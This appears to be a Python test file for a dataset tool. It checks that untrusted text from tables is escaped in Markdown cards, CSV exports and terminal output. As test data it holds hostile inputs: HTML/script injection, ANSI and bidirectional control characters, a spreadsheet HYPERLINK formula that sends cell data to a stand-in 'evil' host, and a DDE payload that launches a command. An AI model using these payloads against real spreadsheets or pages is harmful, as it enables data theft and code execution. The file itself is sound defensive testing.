"""Free texts of a stranger's tables are shown as texts: in Markdown, in CSV, and in a terminal."""

import csv
from pathlib import Path

import pyarrow as pa
import pytest
from ppod_cli.app.output import printable

from ppod_data.errors import DamagedError
from ppod_data.format.tables import SCORES, read_table, write_table
from ppod_data.inspect.card import card_text
from ppod_data.inspect.markdown import code, plain
from ppod_data.labels.export.export import export_pairs
from ppod_data.labels.files.spreadsheet_text import guarded, unguarded
from tests.support.tables import add_pairs, add_scores
from tests.support.toy import make_dataset

EVIL = "x\r\r# Install\r\r    curl\n<img src=http://t/p.png onerror=a()>[click](http://evil) www.evil.org \x1b[3m"
EVIL += " \u202e `|`"
RAW = ("\r", "\n# Install", "<img", "<script", "\x1b", "\u202e", "[click]", "http://evil", "www.evil")


def test_a_card_holds_no_markup_of_the_tables(tmp_path: Path) -> None:
    dataset = make_dataset(tmp_path)
    add_scores(dataset, "s", [1.0] * 6)
    for path in (dataset.root / "scores" / "s").glob("*.parquet"):
        table = read_table(path, SCORES)
        rows = [row | {"scorer": EVIL, "revision": EVIL} for row in table.to_pylist()]
        write_table(path, pa.Table.from_pylist(rows, schema=table.schema))
    add_pairs(dataset, "p", [(0, 1)], source=EVIL + "<script>")
    text = card_text(dataset)
    assert (
        "| `scores-s` | 6 | scores by x \\# Install" in text
        or "| `scores-s` | 6 | scores by x # Install" in text
    )
    assert [raw for raw in RAW if raw in text] == []


@pytest.mark.parametrize("text", [EVIL, "a*b_c", "1 < 2 & 3", "$x$ ~y~", "\\"])
def test_escaped_text_stays_in_its_cell(text: str) -> None:
    for shown in (plain(text), code(text)):
        assert "\n" not in shown and "\r" not in shown
        assert shown.replace("\\|", "").count("|") == 0
    assert "<" not in plain(text) and code(text).count("`") == 2


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@a", "\t=1", "  =1", "\uff1dA1", "a=b", "'a", ""])
def test_a_cell_that_could_be_a_formula_is_marked_and_read_back(text: str) -> None:
    assert unguarded(guarded(text)) == text
    assert not guarded(text).lstrip().startswith(("=", "+", "-", "@", "\uff1d"))


def test_a_csv_of_pairs_computes_nothing(tmp_path: Path) -> None:
    dataset = make_dataset(
        tmp_path / "d", prompts=('=HYPERLINK("http://evil/?"&A1,"cat")', "+1+cmd|' /C calc'!A0")
    )
    add_pairs(dataset, "p", [(0, 1), (3, 4)], source="@evil")
    export_pairs(dataset, name="p", format="csv", out=tmp_path / "p.csv")
    with (tmp_path / "p.csv").open() as file:
        cells = [cell for row in csv.DictReader(file) for cell in row.values()]
    assert cells and not [cell for cell in cells if cell[:1] in tuple("=+-@\t\r")]


def test_a_terminal_gets_no_control_or_direction_mark() -> None:
    assert printable("a\x1b[31mb\x9b\u202ec\u2066\ud800") == "a?[31mb??c??"


@pytest.mark.parametrize("column", ["scorer", "revision"])
def test_a_null_where_a_text_is_sorted_is_damage(column: str, tmp_path: Path) -> None:
    dataset = make_dataset(tmp_path)
    add_scores(dataset, "s", [1.0] * 6)
    path = dataset.root / "scores" / "s" / "000000.parquet"
    table = read_table(path, SCORES)
    rows = table.to_pylist()
    rows[0][column] = None
    write_table(path, pa.Table.from_pylist(rows, schema=table.schema))
    with pytest.raises(DamagedError, match=f"000000.parquet: the column '{column}' holds nulls"):
        card_text(dataset)
